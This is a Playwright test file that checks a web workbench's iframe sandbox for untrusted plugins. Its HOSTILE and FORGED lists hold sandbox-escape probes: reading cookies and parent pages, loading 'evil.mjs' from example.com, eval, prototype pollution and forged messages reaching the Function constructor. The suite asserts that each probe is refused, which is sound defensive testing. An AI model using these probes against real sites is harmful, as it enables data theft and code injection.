import assert from 'node:assert/strict';
import { after, test } from 'node:test';

import type { Page } from 'playwright-core';

import { createBrowserKit, withChromium } from './browser-kit.ts';
import { startSite } from './site.ts';
import { attempt, frameOf, installUntrusted, setOff, tryIn } from './untrusted-kit.ts';

const server = await startSite({ after });
const kit = createBrowserKit({ after }, server.address);

const NOTES = `
import { createElement as h, useState } from 'react';
import { Button, DIALOGS, HTTP, I18N, ROUTER, SESSION, STORAGE, THEME, TOASTS, defineWeb, observer, useService, useText } from '@reelport/core';
const Notes = observer(function Notes() {
  const t = useText();
  const http = useService(HTTP), dialogs = useService(DIALOGS), toasts = useService(TOASTS), router = useService(ROUTER);
  const session = useService(SESSION), theme = useService(THEME), storage = useService(STORAGE), i18n = useService(I18N);
  const [said, say] = useState('');
  const ask = async () => say(await dialogs.confirm({ title: 'notes:sure', destructive: true }) ? 'sure' : 'not sure');
  const read = async () => say(Object.keys(await http.send({ method: 'GET', path: '/api/tasks' })).join());
  return h('main', null,
    h('h1', null, t('notes:title')),
    h('p', { id: 'facts' }, [theme.mode, i18n.language, session.displayName === '' ? '' : 'named', String(session.token), router.place.path].join(' ')),
    h('input', { 'aria-label': 'field' }),
    h(Button, { onClick: () => toasts.show({ kind: 'success', text: t('notes:hello') }) }, 'toast'),
    h(Button, { onClick: ask }, 'ask'),
    h(Button, { onClick: read }, 'read'),
    h(Button, { onClick: () => { storage.write('a', { b: 1 }); say('kept'); } }, 'keep'),
    h(Button, { onClick: () => say(JSON.stringify(storage.read('a') ?? null)) }, 'recall'),
    h(Button, { onClick: () => router.go('/notes/more') }, 'more'),
    h(Button, { onClick: () => router.go('/workbench') }, 'away'),
    h('output', null, said));
});
function More() {
  return h('main', null, h('h1', null, 'more'));
}
export default defineWeb({
  pages: { Notes: async () => ({ default: Notes }), More: async () => ({ default: More }) },
  commands: { greet: (context) => { context.get(TOASTS).show({ kind: 'info', text: context.t('notes:hello') }); } },
});
`;

await installUntrusted(server, {
  manifest: {
    id: 'notes',
    routes: [
      { path: '/notes', page: 'Notes', title: 'notes:title' },
      { path: '/notes/more', page: 'More', title: 'notes:title' },
    ],
    commands: [{ id: 'greet', title: 'notes:greet', keys: 'mod+shift+y' }],
    grants: [
      { kind: 'http', methods: ['GET'], path: '/api/tasks', why: 'notes:why' },
      { kind: 'service', token: 'dialogs@1', why: 'notes:why' },
      { kind: 'service', token: 'session@1', why: 'notes:why' },
    ],
  },
  web: NOTES,
  styles: 'h1 { letter-spacing: 3px; }',
  texts: {
    zh: { title: '便笺', sure: '确定吗', hello: '你好', greet: '打招呼', why: '为了用' },
    en: { title: 'Notes', sure: 'Are you sure', hello: 'Hello', greet: 'Greet', why: 'To work' },
  },
});

test(
  'an untrusted plugin works in its frame: calls, notes, questions, storage, ways, theme and language',
  withChromium,
  async () => {
    const { token } = await server.signIn();
    const { page, close } = await kit.open({ token });
    await page.goto(`${server.address}/notes`);
    const frame = await frameOf(page, 'notes');
    await frame.getByRole('heading', { name: '便笺' }).waitFor();
    assert.equal(await frame.locator('#facts').textContent(), 'dark zh named null /notes');
    assert.equal(await frame.evaluate('origin'), 'null');
    assert.equal(await frame.evaluate(`getComputedStyle(document.querySelector('h1')).letterSpacing`), '3px');
    assert.equal(await page.locator('iframe.rp-frame').getAttribute('title'), '插件「便笺」的页面');

    await frame.getByRole('button', { name: 'read' }).click();
    await frame.getByText('items').waitFor();
    await frame.getByRole('button', { name: 'toast' }).click();
    await page.getByText('便笺：你好').waitFor();
    await frame.getByRole('button', { name: 'ask' }).click();
    const dialog = page.getByRole('dialog', { name: '确定吗' });
    await dialog.getByText('插件「便笺」询问').waitFor();
    await dialog.getByRole('button', { name: '确定' }).click();
    await frame.getByText('sure', { exact: true }).waitFor();
    await frame.getByRole('button', { name: 'keep' }).click();
    await frame.getByText('kept').waitFor();

    await page.getByRole('button', { name: 'Switch to English' }).click();
    await page.getByRole('banner').getByRole('button', { name: 'Switch to light' }).click();
    await frame.getByText('light en named null /notes').waitFor();
    await frame.getByRole('heading', { name: 'Notes' }).waitFor();
    assert.equal(await frame.evaluate(`document.body.getAttribute('theme-mode')`), 'light');

    await frame.getByRole('button', { name: 'more' }).click();
    await frame.getByRole('heading', { name: 'more' }).waitFor();
    assert.equal(new URL(page.url()).pathname, '/notes/more');
    // The frame is the same: nothing of it was loaded again.
    assert.equal(frame.isDetached(), false);
    await page.goBack();
    await frame.getByRole('button', { name: 'recall' }).click();
    await frame.getByText('{"b":1}').waitFor();
    assert.equal(await page.evaluate(`localStorage.getItem('reelport.notes.a')`), '{"b":1}');
    await frame.getByRole('button', { name: 'away' }).click();
    await page.waitForURL((url) => url.pathname === '/workbench');
    await page.locator('iframe').waitFor({ state: 'detached' });
    assert.deepEqual(kit.takeComplaints(), []);
    await close();
  },
);

test(
  'keys of the workbench work in the frame, and its commands in the palette, with and without a page',
  withChromium,
  async () => {
    const { token } = await server.signIn();
    const { page, close } = await kit.open({ token, language: 'en' });
    await page.goto(`${server.address}/notes`);
    const frame = await frameOf(page, 'notes');
    await frame.getByLabel('field').click();
    await page.keyboard.type('a?b');
    assert.equal(await frame.getByLabel('field').inputValue(), 'a?b');
    await page.keyboard.press('Control+k');
    await page.getByRole('combobox').fill('Greet');
    await page.keyboard.press('Enter');
    await page.getByText('Notes: Hello').waitFor();
    await page.getByText('Notes: Hello').waitFor({ state: 'detached' });
    await frame.getByLabel('field').click();
    await page.keyboard.press('Control+Shift+y');
    await page.getByText('Notes: Hello').waitFor();

    await page.goto(`${server.address}/workbench`);
    await page.getByRole('heading', { level: 1 }).waitFor();
    await page.keyboard.press('Control+Shift+y');
    await page.getByText('Notes: Hello').waitFor();
    await page.locator('iframe').waitFor({ state: 'detached' });
    assert.deepEqual(kit.takeComplaints(), []);
    await close();
  },
);

/** What a plugin tries, and what it gets. */
interface Attempt {
  does: string;
  code: string;
  refused: RegExp;
}

const HOSTILE: readonly Attempt[] = [
  {
    does: 'reads the page around it',
    code: `return parent.document.title`,
    refused: /SecurityError/,
  },
  {
    does: 'reads a global of the page around it',
    code: `return String(parent.__reelportShare)`,
    refused: /SecurityError/,
  },
  {
    does: 'sends the window elsewhere',
    code: `top.location.href = '/home'`,
    refused: /SecurityError/,
  },
  {
    does: 'reads the storage',
    code: `return localStorage.length`,
    refused: /SecurityError/,
  },
  {
    does: 'reads the storage of the tab',
    code: `return sessionStorage.length`,
    refused: /SecurityError/,
  },
  {
    does: 'reads cookies',
    code: `return document.cookie`,
    refused: /SecurityError/,
  },
  {
    does: 'reads the cookie store',
    code: `return (await globalThis.cookieStore.getAll()).length`,
    refused: /refused|TypeError/,
  },
  {
    does: 'opens a database',
    code: `await new Promise((resolve, reject) => { const r = indexedDB.open('x'); r.onsuccess = resolve; r.onerror = () => reject(r.error); })`,
    refused: /SecurityError/,
  },
  {
    does: 'opens a cache',
    code: `await caches.open('x')`,
    refused: /SecurityError|ReferenceError/,
  },
  {
    does: 'registers a service worker',
    code: `await navigator.serviceWorker.register('/x.js')`,
    refused: /TypeError|SecurityError|InvalidStateError/,
  },
  {
    does: 'calls the server by itself',
    code: `return (await fetch('/api/account')).status`,
    refused: /TypeError/,
  },
  {
    does: 'calls another server',
    code: `return (await fetch('https://example.com/')).status`,
    refused: /TypeError/,
  },
  {
    does: 'calls the server the old way',
    code: `await new Promise((resolve, reject) => { const r = new XMLHttpRequest(); r.open('GET', '/api/account'); r.onload = resolve; r.onerror = () => reject(new TypeError('no')); r.send(); })`,
    refused: /TypeError/,
  },
  {
    does: 'opens a socket',
    code: `await new Promise((resolve, reject) => { const s = new WebSocket('ws://' + location.host); s.onopen = resolve; s.onerror = () => reject(new TypeError('no')); })`,
    refused: /TypeError|SecurityError/,
  },
  {
    does: 'asks the server by a picture',
    code: `await new Promise((resolve, reject) => { const i = new Image(); i.onload = resolve; i.onerror = () => reject(new TypeError('no')); i.src = '/api/account?told=1'; })`,
    refused: /TypeError/,
  },
  {
    does: 'loads a script from elsewhere',
    code: `await import('https://example.com/evil.mjs')`,
    refused: /TypeError/,
  },
  {
    does: 'makes a script of text',
    code: `await import('data:text/javascript,1')`,
    refused: /TypeError/,
  },
  {
    does: 'makes code of text',
    code: `return (0, eval)('1')`,
    refused: /EvalError/,
  },
  {
    does: 'opens a window',
    code: `if (window.open('/home') === null) throw new TypeError('no window')`,
    refused: /no window/,
  },
  {
    does: 'reads the clipboard',
    code: `return await navigator.clipboard.readText()`,
    refused: /TypeError|NotAllowedError/,
  },
  {
    does: 'asks for a service that was not granted',
    code: `return String(context.tryGet(token('session', 1)))`,
    refused: /got: undefined/,
  },
  {
    does: 'asks for the calls that were not granted',
    code: `return String(context.tryGet(token('http', 1)))`,
    refused: /got: undefined/,
  },
  {
    does: 'asks for the kernel’s other plugins',
    code: `return String(context.tryGet(token('events', 1)))`,
    refused: /got: undefined/,
  },
];

const FORGED: readonly Attempt[] = [
  {
    does: 'asks for calls without a grant',
    code: `return await call('send', 'a', { method: 'GET', path: '/api/account', bare: false, handlesErrors: true })`,
    refused: /no such thing/,
  },
  {
    does: 'asks a question without a grant',
    code: `return await call('ask', { title: 'x', destructive: false })`,
    refused: /no such thing/,
  },
  {
    does: 'reaches for the Function of the workbench',
    code: `return await forge({ type: 'APPLY', path: ['constructor', 'constructor'], argumentList: [{ type: 'RAW', value: 'alert(1)' }] })`,
    refused: /no such thing/,
  },
  {
    does: 'reads what stands there',
    code: `return await forge({ type: 'GET', path: ['toast'] })`,
    refused: /no such thing/,
  },
  {
    does: 'changes what all objects have',
    code: `return await forge({ type: 'SET', path: ['__proto__', 'polluted'], value: { type: 'RAW', value: 1 } })`,
    refused: /no such thing/,
  },
  {
    does: 'opens another end',
    code: `return await forge({ type: 'ENDPOINT', path: [] })`,
    refused: /no such thing/,
  },
  {
    does: 'passes a port as an argument',
    code: `return await forge({ type: 'APPLY', path: ['toast'], argumentList: [{ type: 'HANDLER', name: 'proxy', value: 1 }] })`,
    refused: /no such thing/,
  },
  {
    does: 'reads texts of others',
    code: `return await call('texts', 'zh', '../account')`,
    refused: /texts:/,
  },
  {
    does: 'goes out of the workbench',
    code: `return await call('go', '//example.com/', false)`,
    refused: /go:/,
  },
  {
    does: 'goes out of the workbench by a whole address',
    code: `return await call('go', 'https://example.com/', false)`,
    refused: /go:/,
  },
  {
    does: 'fills the storage',
    code: `return await call('keep', 'a', 'x'.repeat(300_000))`,
    refused: /more than a plugin may keep/,
  },
  {
    does: 'adds a command in the name of others',
    code: `return await call('addCommand', 'x', 'shell:name')`,
    refused: /no text of the plugin/,
  },
];

/** What really goes out of the browser beyond what it may: to another server, or marked by `told=1`. */
async function watchAsked(page: Page): Promise<string[]> {
  const asked: string[] = [];
  await page.route(/example\.com|told=1/, (route) => {
    asked.push(route.request().url());
    return route.fulfill({ body: 'reached' });
  });
  return asked;
}

test('an untrusted plugin reaches nothing around it', withChromium, async () => {
  const { token } = await server.signIn();
  const { page, context, close } = await kit.open({ token });
  const asked = await watchAsked(page);
  const all = [...HOSTILE, ...FORGED];
  const code = `const said = [];
    for (const run of [${all.map((tried) => `async () => { ${tried.code} }`).join(', ')}]) {
      said.push(await run().then((value) => 'got: ' + String(value), (error) => 'refused: ' + error.name + ' ' + error.message));
    }
    return said;`;
  await installUntrusted(server, attempt('hostile', code));
  await page.goto(`${server.address}/hostile`);
  const said = JSON.parse((await tryIn(await frameOf(page, 'hostile'))).replace('got: ', '')) as string[];
  all.forEach(({ does, refused }, index) => assert.match(said[index] ?? '', refused, does));
  assert.equal(new URL(page.url()).pathname, '/hostile');
  assert.equal(await page.evaluate('({}).polluted'), undefined);
  assert.equal(context.pages().length, 1);
  assert.deepEqual(asked, []);
  // The browser tells each of its refusals.
  kit.takeComplaints();
  await close();
});

test('a call beyond the grants is refused, and what is kept stays in the plugin’s own part', withChromium, async () => {
  const { token } = await server.signIn();
  const { page, close } = await kit.open({ token });
  const grants = [{ kind: 'http' as const, methods: ['GET' as const], path: '/api/tasks', why: 'g-http:title' }];
  const request = (path: string) => `{ method: 'GET', path: '${path}', bare: false, handlesErrors: true }`;
  const asking = `await call('keep', '../account.theme', 1);
    const said = [];
    for (const [id, request] of [${['/api/tasks', '/api/account', '/api/tasks/../account', '/api/tasks/:id', '//x/api/tasks'].map((path, index) => `['${index}', ${request(path)}]`).join()}]) {
      said.push(await call('send', id, request).then((answer) => answer.ok));
    }
    return said;`;
  await installUntrusted(server, attempt('g-http', asking, { grants }));
  await page.goto(`${server.address}/g-http`);
  assert.equal(await tryIn(await frameOf(page, 'g-http')), 'got: [true,false,false,false,false]');
  const kept = await page.evaluate<string[]>('Object.keys(localStorage)');
  assert.equal(kept.includes('reelport.g-http.../account.theme'), true);
  assert.equal(
    kept.some((key) => key.startsWith('reelport.account')),
    false,
  );
  await close();
});

/** Once whoever pressed the button has let go of it. */
const later = (code: string): string => `setTimeout(async () => { ${code} }, 300); return 'soon'`;

const FAULT = { zh: '没有反应，已停下', en: 'stopped answering and was ended' };

test('an endless loop leaves the workbench responsive, is ended, and can be tried again', withChromium, async () => {
  const { token } = await server.signIn();
  const { page, close } = await kit.open({ token, language: 'en' });
  await installUntrusted(server, attempt('loop', later('for (;;);')));
  await page.goto(`${server.address}/loop`);
  const frame = await frameOf(page, 'loop');
  await setOff(frame);
  // While it loops: the theme, the palette, a key.
  await page.getByRole('banner').getByRole('button', { name: 'Switch to light' }).click();
  await page.waitForFunction(`document.body.getAttribute('theme-mode') === 'light'`);
  const slowest = await page.evaluate<number>(`new Promise((resolve) => {
    let slowest = 0; let last = performance.now(); let count = 0;
    const timer = setInterval(() => { const now = performance.now(); slowest = Math.max(slowest, now - last); last = now;
      count += 1; if (count === 40) { clearInterval(timer); resolve(slowest); } }, 25);
  })`);
  assert.ok(slowest < 1000, `the workbench stood still for ${slowest} ms`);
  await page.getByRole('alert').getByText(FAULT.en).waitFor();
  await page.locator('iframe').waitFor({ state: 'detached' });
  await page.getByRole('button', { name: 'Try again' }).click();
  await frameOf(page, 'loop');
  await close();
});

const CUT = [
  {
    id: 'cut-flood',
    does: 'floods its port',
    code: `for (let i = 0; i < 1e6; i += 1) postMessage.call(port, { id: 'x' })`,
  },
  {
    id: 'cut-window',
    does: 'floods the window',
    code: `for (let i = 0; i < 1e5; i += 1) parent.postMessage('x', '*')`,
  },
  { id: 'cut-huge', does: 'sends something huge', code: `await call('keep', 'a', 'x'.repeat(30_000_000))` },
  { id: 'cut-odd', does: 'sends what is no data', code: `await call('keep', 'a', new Map([[1, 2]]))` },
  { id: 'cut-away', does: 'goes to another page in its frame', code: `location.href = '/home'` },
];

test('a plugin that asks for too much is closed, and the workbench lives', withChromium, async () => {
  const { token } = await server.signIn();
  const { page, close } = await kit.open({ token });
  for (const { id, code } of CUT) await installUntrusted(server, attempt(id, later(code)));
  for (const { id, does } of CUT) {
    await page.goto(`${server.address}/${id}`);
    const frame = await frameOf(page, id);
    await setOff(frame);
    await page
      .getByRole('alert')
      .getByText(FAULT.zh)
      .waitFor()
      .catch((error: unknown) => assert.fail(`${does}: ${String(error)}`));
    await page.locator('iframe').waitFor({ state: 'detached' });
    await page.getByRole('navigation').first().getByText('工作台').click();
    await page.waitForURL((url) => url.pathname === '/workbench');
  }
  await close();
});

test('a frame cannot be sent out of the workbench', withChromium, async () => {
  const { token } = await server.signIn();
  const { page, close } = await kit.open({ token });
  const asked = await watchAsked(page);
  await installUntrusted(server, attempt('flee', later(`location.href = 'https://example.com/?told=1'`)));
  await page.goto(`${server.address}/flee`);
  const frame = await frameOf(page, 'flee');
  await setOff(frame);
  await page.getByRole('alert').getByText(FAULT.zh).waitFor();
  assert.deepEqual(asked, []);
  await close();
});

test('opened by itself the page of a frame is of no origin and holds nothing', withChromium, async () => {
  const { token } = await server.signIn();
  const { page, close } = await kit.open({ token });
  const known = await server.composed.ctx.plugins.find('notes');
  await page.goto(`${server.address}/plugin-frame/notes/${known?.source?.revision}`);
  assert.equal(await page.evaluate('origin'), 'null');
  const other = await fetch(`${server.address}/plugin-frame/notes/another`);
  assert.equal(other.status, 404);
  await close();
});

test(
  'code with another hash than at the installation is not run, and a new frame loads the right one',
  withChromium,
  async () => {
    const { token } = await server.signIn();
    const { page, close } = await kit.open({ token, language: 'en' });
    const files = '**/plugin-files/notes/**/web.mjs';
    // Only in the frame: what the workbench looks at ahead is right.
    await page.route(files, async (route) => {
      if (route.request().frame() === page.mainFrame()) return route.continue();
      const answer = await route.fetch();
      const body = `document.documentElement.dataset.ran = 'yes';${await answer.text()}`;
      return route.fulfill({ response: answer, body });
    });
    await page.goto(`${server.address}/notes`);
    const frame = page.frameLocator('iframe.rp-frame');
    await frame.getByRole('alert').waitFor();
    assert.equal(await frame.locator('html').getAttribute('data-ran'), null);
    await page.unroute(files);
    await frame.getByRole('button', { name: 'Try again' }).click();
    await frame.getByRole('heading', { name: 'Notes' }).waitFor();

    await page.route(files, (route) => route.fulfill({ body: 'export default {}', contentType: 'text/javascript' }));
    await page.reload();
    await page
      .getByRole('alert')
      .getByText(/are not those that were installed, so/)
      .waitFor();
    assert.equal(await page.locator('iframe').count(), 0);
    kit.takeComplaints();
    await close();
  },
);

test('the tab key goes into the frame and out of it', withChromium, async () => {
  const { token } = await server.signIn();
  const { page, close } = await kit.open({ token, language: 'en' });
  await page.goto(`${server.address}/notes`);
  const frame = await frameOf(page, 'notes');
  await page.locator('#content').focus();
  await page.keyboard.press('Tab');
  assert.equal(await frame.evaluate(`document.activeElement?.getAttribute('aria-label')`), 'field');
  await page.keyboard.press('Shift+Tab');
  assert.notEqual(await page.evaluate(`document.activeElement?.tagName`), 'IFRAME');
  for (let count = 0; count < 9; count += 1) await page.keyboard.press('Tab');
  assert.notEqual(await page.evaluate(`document.activeElement?.tagName`), 'IFRAME');
  await close();
});

test('work that is not saved in the frame is asked about before its page is left', withChromium, async () => {
  const { token } = await server.signIn();
  const { page, close } = await kit.open({ token });
  const code = `let dirty = true; context.get(ROUTER).confirmLeaving(() => dirty); setTimeout(() => { dirty = false; }, 60_000); return 'asks'`;
  const parts = attempt('drafts', code);
  await installUntrusted(server, { ...parts, web: parts.web?.replace('TOASTS }', 'TOASTS, ROUTER }') });
  await page.goto(`${server.address}/drafts`);
  assert.match(await tryIn(await frameOf(page, 'drafts')), /asks/);
  const rail = page.getByRole('navigation').first().getByText('工作台');
  await rail.click();
  const dialog = page.getByRole('dialog');
  await dialog.getByRole('button').first().click();
  await dialog.waitFor({ state: 'detached' });
  assert.equal(new URL(page.url()).pathname, '/drafts');
  await rail.click();
  await dialog.getByRole('button').last().click();
  await page.waitForURL((url) => url.pathname === '/workbench');
  await close();
});
